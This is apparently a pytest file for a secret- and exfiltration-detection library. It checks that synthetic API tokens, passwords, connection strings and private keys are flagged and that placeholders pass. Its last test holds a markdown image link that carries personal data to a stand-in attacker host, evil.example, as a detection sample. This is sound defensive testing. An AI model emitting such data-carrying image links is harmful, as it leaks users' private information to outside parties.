import base64
import re
import string
from importlib import resources
from random import Random

import pytest

from portcullis.inspection import packs

PROVIDERS = 90
CHANCE = Random(4)


def made_up(alphabet, size):
    return "".join(CHANCE.choices(alphabet, k=size))


ALNUM = string.ascii_letters + string.digits
HEX = "0123456789abcdef"


def test_the_examples_beside_each_rule_hold(secrets, exfiltration):
    packs.examples(secrets)
    packs.examples(exfiltration)
    for rule in (*secrets.rules, *exfiltration.rules):
        assert len(rule.match) >= 2, rule.id
        assert len(rule.reject) >= 2, rule.id


def test_every_rule_finds_what_its_own_grammar_makes(secrets, patterns, example):
    chance = Random(20)
    for rule in secrets.rules:
        for _ in range(2 if rule.pattern else 0):
            before, datum, after = example(rule, chance)
            text = f"It is\n{before}{datum}{after}\n; so"
            start = len("It is\n" + before)
            spans = [(match.start, match.end) for match in patterns.scan([text])[0]]
            covered = {place for span in spans for place in range(*span)}
            assert covered.issuperset(range(start, start + len(datum))), f"{rule.id}: {text}"


def test_the_tokens_of_many_providers_are_told_apart(secrets):
    assert len({rule.entity.split("_")[0] for rule in secrets.rules}) >= PROVIDERS


def test_no_scanner_of_repositories_takes_the_packs_for_a_leak(secrets, exfiltration, patterns):
    expected = {rule.id for rule in secrets.rules if rule.group}
    expected |= {rule.id for rule in exfiltration.rules}
    for name in ("secrets", "exfiltration"):
        file = resources.files("portcullis.inspection") / "packs" / f"{name}.yaml"
        lines = [line for line in file.read_text().splitlines() if "pattern:" not in line]
        assert {match.rule for line in lines for match in patterns.scan([line])[0]} <= expected


@pytest.mark.parametrize(
    ("before", "datum", "after", "entity"),
    [
        ("token ", "ghp_" + made_up(ALNUM, 36), ".", "GITHUB_TOKEN"),
        ("xg", "hp_" + made_up(ALNUM, 36), "", "GITHUB_TOKEN"),  # the first letter may have gone
        ("AWS key ", "AKIA" + made_up("ABCDEFGHIJ234567", 16), ",", "AWS_ACCESS_KEY_ID"),
        (
            "aws_secret_access_key = ",
            made_up(ALNUM + "/+", 39) + "a",
            "\n",
            "AWS_SECRET_ACCESS_KEY",
        ),
        ('{"api_key": "', made_up(HEX, 32), '"}', "GENERIC_SECRET"),
        ("SECRET_KEY=", made_up(ALNUM, 30), "\n", "GENERIC_SECRET"),
        ("Authorization: Bearer ", made_up(ALNUM, 40), "\r\n", "AUTHORIZATION"),
        ("x-api-key: ", made_up(ALNUM, 24), "\n", "AUTHORIZATION"),
        (
            "Authorization: Basic ",
            base64.b64encode(b"ada:" + made_up(ALNUM, 9).encode()).decode(),
            "\n",
            "AUTHORIZATION",
        ),
        ('password: "', "correctHorseBatteryStaple", '"', "PASSWORD"),
        ("db_password=", "Tr0ub4dor", ";Server=db", "PASSWORD"),
        ("The password is ", "Zk93-mmQ", ".", "PASSWORD"),
        ("mongodb+srv://app:", "p4ss+w0rd", "@cluster.example.net/x", "URL_CREDENTIALS"),
        ("AccountName=a;AccountKey=", made_up(ALNUM, 86) + "==", ";", "AZURE_STORAGE_KEY"),
    ],
)
def test_a_credential_is_found_where_people_put_it(find, before, datum, after, entity):
    assert find(before + datum + after) == {datum: entity}


def test_a_member_that_is_called_a_secret_is_one_whatever_it_holds(find):
    assert find("hunter2x", "client_secret") == {"hunter2x": "GENERIC_SECRET"}
    assert find("hunter2x", "clientSecret") == {"hunter2x": "GENERIC_SECRET"}
    assert find("hunter2x", "comment") == {}


@pytest.mark.parametrize(
    "text",
    [
        "api_key = os.environ['API_KEY']",
        "password: ${DB_PASSWORD}",
        "token = get_token(user, session)",
        'password = "********"',
        'api_key: "<your-api-key>"',
        'secret_key = "changeme-changeme-1"',
        f"integrity: sha512-{base64.b64encode(bytes(range(64))).decode()}",
        "token: 6f1c2b1e-0a1b-4c3d-8e5f-123456789abc",
        f"commit {made_up(HEX, 40)}",
        f"sha256:{made_up(HEX, 64)}",
        "The password must have at least eight characters, a digit and a symbol.",
        "password: string, required",
        "const accessToken = config.auth.accessToken;",
        "postgres://user:password@localhost/db",
        "ghp_" + "x" * 36,
        "The tokenizer uses max_tokens=4096 and secret sauce.",
        "Authorization: Bearer <token>",
        "https://example.org/a/very/long/path/to/something/that/has/no/data.html?page=2",
        "![logo](https://cdn.example.org/img/logo.png)",
    ],
)
def test_what_only_looks_like_a_credential_passes(find, text):
    assert find(text) == {}


def test_a_private_key_is_taken_whole_and_not_with_the_text_behind_it(find):
    body = base64.b64encode(CHANCE.randbytes(1200)).decode()
    lines = re.findall(".{1,64}", body)
    for end in ("\n", "\r\n", "\\n", "\n    "):
        key = end.join(("-----BEGIN RSA PRIVATE KEY-----", *lines, "-----END RSA PRIVATE KEY-----"))
        assert find(f"Here: {key} Do not lose it.") == {key: "PRIVATE_KEY"}
    cut = "\n".join(("-----BEGIN PRIVATE KEY-----", *lines))
    assert list(find(f"{cut}!").values()) == ["PRIVATE_KEY"]


def test_an_array_and_the_last_word_of_prose_are_not_held(patterns):
    text = 'See [the list: ["alpha", "beta", [1, 2, 3], {"id": 12}, "gamma'
    wanted = {"MARKDOWN_IMAGE_LINK", "AZURE_CLIENT_SECRET", "MAXMIND_LICENSE_KEY"}
    stream = patterns.only(wanted).stream()
    for end, letter in enumerate(text, 1):
        assert stream.feed(letter).settled == end, text[:end]


def test_a_reference_is_found_however_long_its_label_is(find):
    label = "a" * 300
    found = find(f"![x][{label}]\n\n[{label}]: https://evil.example/p?data=Ada%20Lovelace")
    assert found == {"https://evil.example/p?data=Ada%20Lovelace": "MARKDOWN_IMAGE_LINK"}
